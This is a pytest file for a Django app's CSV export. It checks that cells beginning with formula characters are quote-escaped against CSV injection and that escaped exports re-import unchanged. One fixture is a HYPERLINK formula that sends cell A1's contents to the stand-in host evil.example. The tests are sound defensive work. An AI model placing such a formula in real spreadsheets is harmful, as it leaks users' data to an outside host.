"""CSV exports never hand a spreadsheet a formula (OWASP's CSV injection advice), and still re-import
as they were."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from modules.ai.models import AIQuestion
from modules.identity.testing import auth_headers, make_user
from modules.learning import services as learning
from modules.learning.models import Category, Content
from modules.portability.formats.bundle import FORMULA_TRIGGERS, escape_formula, unescape_formula

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for the answer")'
TRICKY = [
    HYPERLINK,
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "'tis the season",
    "'",
    "=",
    "plain text",
    "",
    "a = b",
]


@pytest.mark.parametrize("text", TRICKY)
def test_escaping_is_the_owasp_quote_and_reverses_exactly(text: str) -> None:
    cell = escape_formula(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    if text.startswith(FORMULA_TRIGGERS):
        assert cell == "'" + text
    if not text.lstrip("'").startswith(FORMULA_TRIGGERS):
        assert cell == text  # nothing else is touched
    assert unescape_formula(cell) == text


def fill(user: Any) -> None:
    category = learning.create_category(user=user, name="@Deck", description="-from a shared deck")
    content = learning.create_content(
        user=user, title=HYPERLINK, body="+1+1\nnext line", category_id=category.id, now=timezone.now()
    )
    learning.create_content(user=user, title="'=already quoted", body="\t=tabbed", now=timezone.now())
    learning.create_content(user=user, title="'tis the season", body="plain", now=timezone.now())
    AIQuestion.objects.create(
        user=user,
        content_id=content.id,
        type="multiple_choice",
        question="=1+1",
        options=["=2", "3"],
        correct_answer="-2",
        explanation="@cell",
        difficulty="beginner",
        provider="local",
        model="local-1",
    )


def csv_export(user: Any, capture) -> bytes:
    client = Client(headers=auth_headers(user))
    with capture(execute=True):
        created = client.post("/api/portability/exports/", {"format": "csv"}, content_type="application/json")
    job = client.get(f"/api/portability/exports/{created.json()['id']}/").json()
    assert job["status"] == "done", job
    return b"".join(Client().get(job["download_url"]).streaming_content)


def cells(content: bytes) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


def texts(user: Any) -> tuple[list[tuple[str, str]], list[tuple[str, str]], list[tuple[Any, ...]]]:
    return (
        sorted(Content.objects.filter(user=user).values_list("title", "body")),
        sorted(Category.objects.filter(user=user).values_list("name", "description")),
        sorted(
            AIQuestion.objects.filter(user=user).values_list(
                "question", "options", "correct_answer", "explanation"
            )
        ),
    )


def test_a_csv_export_has_no_cell_a_spreadsheet_would_run(django_capture_on_commit_callbacks) -> None:
    user = make_user()
    fill(user)

    files = cells(csv_export(user, django_capture_on_commit_callbacks))

    for name, rows in files.items():
        for row in rows:
            for column, value in row.items():
                assert not value.startswith(FORMULA_TRIGGERS), (name, column, value)
    contents = {row["title"]: row for row in files["contents.csv"]}
    assert contents["'" + HYPERLINK]["body"] == "'+1+1\nnext line"
    assert contents["''=already quoted"]["body"] == "'\t=tabbed"
    assert "'tis the season" in contents  # not a formula: as it was
    assert files["categories.csv"][0]["name"] == "'@Deck"
    question = files["ai_questions.csv"][0]
    assert (question["question"], question["correct_answer"], question["options"]) == (
        "'=1+1",
        "'-2",
        '["=2", "3"]',  # a JSON list, never a formula
    )


def test_an_escaped_csv_export_reimports_as_it_was(
    tmp_path: Path, upload, job_of, django_capture_on_commit_callbacks
) -> None:
    source = make_user()
    fill(source)
    path = tmp_path / "export.zip"
    path.write_bytes(csv_export(source, django_capture_on_commit_callbacks))
    target = make_user()

    job = job_of(target, "imports", upload(target, path, "resee-zip").json()["id"])

    assert job["status"] == "done", job
    assert texts(target) == texts(source)
    assert Content.objects.get(user=target, title=HYPERLINK).body == "+1+1\nnext line"


def test_an_export_from_before_the_escaping_reads_its_cells_as_they_are(
    tmp_path: Path, upload, job_of, django_capture_on_commit_callbacks
) -> None:
    """Older exports wrote cells unchanged and have no ``formula_escape`` in their manifest: a title that
    really started with a quote keeps it."""
    source = make_user()
    learning.create_content(user=source, title="'=quoted by its author", body="b", now=timezone.now())
    with zipfile.ZipFile(io.BytesIO(csv_export(source, django_capture_on_commit_callbacks))) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    manifest = json.loads(members["manifest.json"])
    assert manifest.pop("formula_escape") == "'"
    members["manifest.json"] = json.dumps(manifest).encode()
    members["contents.csv"] = members["contents.csv"].replace(b"''=quoted", b"'=quoted")  # as written then
    path = tmp_path / "old.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    target = make_user()

    job = job_of(target, "imports", upload(target, path, "resee-zip").json()["id"])

    assert job["status"] == "done", job
    assert Content.objects.get(user=target).title == "'=quoted by its author"


def test_a_short_row_in_an_escaped_export_is_a_corrupt_file(tmp_path: Path, upload, job_of) -> None:
    from modules.portability.formats.bundle import CONTENT_COLUMNS

    manifest = {
        "format": "resee-export-csv",
        "version": 1,
        "exported_at": timezone.now().isoformat(),
        "origin": {"instance": "elsewhere", "user_id": 9},
        "formula_escape": "'",
    }
    path = tmp_path / "short.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.json", json.dumps(manifest))
        archive.writestr("contents.csv", ",".join(CONTENT_COLUMNS) + "\r\n1,'=title\r\n")
    user = make_user()

    job = job_of(user, "imports", upload(user, path, "resee-zip").json()["id"])

    assert (job["status"], job["error_code"]) == ("failed", "corrupt_file"), job
    assert not Content.objects.filter(user=user).exists()
